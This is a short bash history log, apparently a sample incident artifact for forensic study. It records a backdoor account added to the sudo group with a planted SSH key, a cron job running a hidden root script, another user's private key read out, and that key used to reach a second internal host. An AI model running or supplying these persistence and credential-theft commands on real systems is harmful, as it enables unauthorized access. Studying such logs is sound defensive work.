#1749767658
useradd -m -G sudo netops
#1749767672
mkdir -p /home/netops/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFm4f0rgedKeyOfTheSampleIncidentOnly000000000 n' > /home/netops/.ssh/authorized_keys
#1749767690
echo '17 * * * * root /usr/local/sbin/.sync' > /etc/cron.d/sync-time
#1749767713
cat /home/ines/.ssh/id_ed25519
#1749767736
ssh -i /home/ines/.ssh/id_ed25519 ines@10.40.0.12
#1749768058
exit
